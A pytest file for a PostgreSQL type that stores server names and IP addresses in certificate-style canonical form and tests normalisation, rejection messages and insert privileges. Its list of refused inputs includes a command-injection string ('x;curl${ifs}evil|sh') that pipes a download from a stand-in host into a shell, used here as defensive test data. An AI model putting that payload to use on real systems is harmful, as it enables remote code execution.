"""pgtls.server_name holds names as a certificate does, and says of others why they are none."""

from __future__ import annotations

import psycopg
import pytest
from hostile_names import VALUES

from pgtls.errors import InvalidInput
from pgtls.lab import Cluster
from pgtls.pki import names

INSERT = "insert into pgtls.server_name values (%s) returning name"


@pytest.mark.parametrize(
    ("given", "held"),
    [
        ("DB1.Example.COM", "db1.example.com"),
        (" db1 ", "db1"),
        ("2001:DB8::1", "2001:db8::1"),
        ("2001:0db8:0000:0:0:0:0:2", "2001:db8::2"),
        ("::FFFF:10.0.0.1", "::ffff:10.0.0.1"),
        ("10.0.0.7", "10.0.0.7"),
        ("xn--bcher-kva.example", "xn--bcher-kva.example"),
        ("a" * 63 + ".example", "a" * 63 + ".example"),
    ],
)
def test_a_name_is_held_as_a_certificate_holds_it(
    cluster: Cluster, database: str, given: str, held: str
) -> None:
    with cluster.connect(dbname=database) as conn:
        assert conn.execute(INSERT, [given]).fetchone() == (held,)
        # The same name again is the same row, however it is spelled.
        with pytest.raises(psycopg.errors.UniqueViolation):
            conn.execute(INSERT, [held.upper()])
    if "ffff" not in held:
        assert names.server_name(held).value == held


REFUSED = (
    "127.1", "010.0.0.1", "1.2.3.400", "x;curl${ifs}evil|sh", "<name>", "*.example.com", "",
    "b\u00fccher.example", "a..b", "-a", "a-", "a_b", "::", "fe80::1%eth0", "[::1]",
    "db:5432", "a.", "10.0.0.0/8", "https://a", "zz--x.example", "a" * 64, "a." * 127 + "aa",
)  # fmt: skip


@pytest.mark.parametrize("given", REFUSED)
def test_what_no_certificate_holds_is_refused_with_the_reason(
    cluster: Cluster, database: str, given: str
) -> None:
    with cluster.connect(dbname=database) as conn:
        with pytest.raises(psycopg.errors.InvalidParameterValue) as caught:
            conn.execute(INSERT, [given])
        diag = caught.value.diag
        assert diag.message_primary
        assert diag.message_detail
        assert diag.message_hint
        assert (diag.message_primary + diag.message_detail).isprintable()
        assert conn.execute("select count(*) from pgtls.server_name").fetchone() == (0,)


def test_a_name_that_is_taken_is_one_that_the_tool_issues_for(
    cluster: Cluster, database: str
) -> None:
    """And none breaks out of what it is pasted into."""
    with cluster.connect(dbname=database) as conn:
        for value in (*VALUES, *REFUSED):
            try:
                (held,) = conn.execute(INSERT, [value]).fetchone() or ("",)
            except (psycopg.errors.InvalidParameterValue, psycopg.errors.UniqueViolation):
                continue
            assert names.server_name(held).value == held
        with pytest.raises(InvalidInput):
            names.server_name("<name>")


def test_who_may_insert_needs_no_other_right(cluster: Cluster, database: str) -> None:
    role = f"writer_{database}"
    with cluster.connect(dbname=database) as conn:
        conn.execute(f"create role {role}")
        conn.execute(f"grant usage on schema pgtls to {role}")
        conn.execute(f"grant insert on pgtls.server_name to {role}")
        conn.execute(f"set role {role}")
        conn.execute("insert into pgtls.server_name values ('DB1')")
        conn.execute("reset role")
        assert conn.execute("select name from pgtls.server_name").fetchone() == ("db1",)
        conn.execute(f"drop owned by {role}")
        conn.execute(f"drop role {role}")
